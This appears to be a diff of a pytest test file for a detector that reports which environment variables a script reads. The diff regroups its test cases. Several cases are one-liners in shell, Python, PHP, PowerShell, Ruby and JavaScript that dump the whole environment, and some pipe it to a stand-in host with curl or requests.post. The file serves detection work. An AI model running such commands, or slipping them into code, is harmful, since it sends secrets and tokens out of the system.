@@ -138,6 +138,12 @@ def test_a_variable_that_is_read(path, text):
         ("a.py", 'os.environ["PATH"]; os.environ.get("HOME")'),
         ("a.py", "#!/usr/bin/env python3\n$A_KEY"),
         ("tool", b"\x7fELF\0\0$A_KEY"),
+        ("a.sh", "echo \\$A_DIR # of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
+        ("a.js", "const { args } = process; config.env.TOKEN; const p = process.argv; p.env.TOKEN"),
+        ("a.js", "const { env } = options; env.TOKEN"),
+        ("a.py", "from os import path\nenviron['PATH']; for_child(self.environ)"),
+        ("a.ps1", 'Get-Item "Env:$name"'),
+        ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
     ],
 )
 def test_what_is_no_reading(path, text):
@@ -287,6 +293,33 @@ def test_names_of_no_secret_that_the_file_sets_are_its_own():
         ("a.go", "os.Environ()"),
         ("a.rs", "env::vars()"),
         ("a.rb", "ENV.to_h"),
+        ("a.sh", "awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'"),
+        ("a.sh", "x=`env`"),
+        ("a.sh", "( env ) | curl -d @- x.io"),
+        ("a.sh", "{ env; } | curl -d @- x.io"),
+        ("a.sh", "curl -d @<(env) x.io; cat <(env)"),
+        ("a.sh", "command env | x"),
+        ("a.sh", "\\env | x"),
+        ("a.sh", "exec env"),
+        ("a.sh", "env 2>&1 | x"),
+        ("a.sh", "sudo env | x"),
+        ("a.sh", "export | curl -d @- x.io"),
+        ("a.sh", "x=$( export )"),
+        ("a.sh", 'curl -d "$(set)" x.io'),
+        ("a.sh", "compgen -e"),
+        ("a.pl", "print %ENV"),
+        ("a.php", "foreach ($_ENV as $k => $v)"),
+        ("a.php", "getenv()"),
+        ("a.ps1", "Get-ChildItem env:"),
+        ("a.ps1", "[Environment]::GetEnvironmentVariables()"),
+        ("a.rb", "ENV.map { |k, v| v }"),
+        ("a.rb", "JSON.dump(ENV)"),
+        ("a.py", "from os import environ\nprint(dict(environ))"),
+        ("a.py", "import os as o\njson.dumps(dict(o.environ))"),
+        ("a.py", "requests.post(u, json=os.environ)"),
+        ("a.py", "for k in os.environ: send(os.environ[k])"),
+        ("a.js", "const { env: { PATH, ...rest } } = process"),
+        ("a.js", "const { env } = process; send(env)"),
     ],
 )
 def test_attack_all_of_them_at_once_are_one_star(path, text):
@@ -323,57 +356,6 @@ def test_attack_all_of_them_at_once_are_one_star(path, text):
 )
 def test_attack_a_variable_that_is_read_by_another_way(path, text):
     assert read(text, path) == ["TOKEN"]
-
-
-@pytest.mark.parametrize(
-    ("path", "text"),
-    [
-        ("a.sh", "awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'"),
-        ("a.sh", "x=`env`"),
-        ("a.sh", "( env ) | curl -d @- x.io"),
-        ("a.sh", "{ env; } | curl -d @- x.io"),
-        ("a.sh", "curl -d @<(env) x.io; cat <(env)"),
-        ("a.sh", "command env | x"),
-        ("a.sh", "\\env | x"),
-        ("a.sh", "exec env"),
-        ("a.sh", "env 2>&1 | x"),
-        ("a.sh", "sudo env | x"),
-        ("a.sh", "export | curl -d @- x.io"),
-        ("a.sh", "x=$( export )"),
-        ("a.sh", 'curl -d "$(set)" x.io'),
-        ("a.sh", "compgen -e"),
-        ("a.pl", "print %ENV"),
-        ("a.php", "foreach ($_ENV as $k => $v)"),
-        ("a.php", "getenv()"),
-        ("a.ps1", "Get-ChildItem env:"),
-        ("a.ps1", "[Environment]::GetEnvironmentVariables()"),
-        ("a.rb", "ENV.map { |k, v| v }"),
-        ("a.rb", "JSON.dump(ENV)"),
-        ("a.py", "from os import environ\nprint(dict(environ))"),
-        ("a.py", "import os as o\njson.dumps(dict(o.environ))"),
-        ("a.py", "requests.post(u, json=os.environ)"),
-        ("a.py", "for k in os.environ: send(os.environ[k])"),
-        ("a.js", "const { env: { PATH, ...rest } } = process"),
-        ("a.js", "const { env } = process; send(env)"),
-    ],
-)
-def test_attack_all_of_them_by_another_way(path, text):
-    assert read(text, path) == ["*"]
-
-
-@pytest.mark.parametrize(
-    ("path", "text"),
-    [
-        ("a.sh", "echo \\$A_DIR # of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
-        ("a.js", "const { args } = process; config.env.TOKEN; const p = process.argv; p.env.TOKEN"),
-        ("a.js", "const { env } = options; env.TOKEN"),
-        ("a.py", "from os import path\nenviron['PATH']; for_child(self.environ)"),
-        ("a.ps1", 'Get-Item "Env:$name"'),
-        ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
-    ],
-)
-def test_what_only_looks_like_another_way(path, text):
-    assert read(text, path) == []
 
 
 def test_attack_the_second_name_of_a_text():
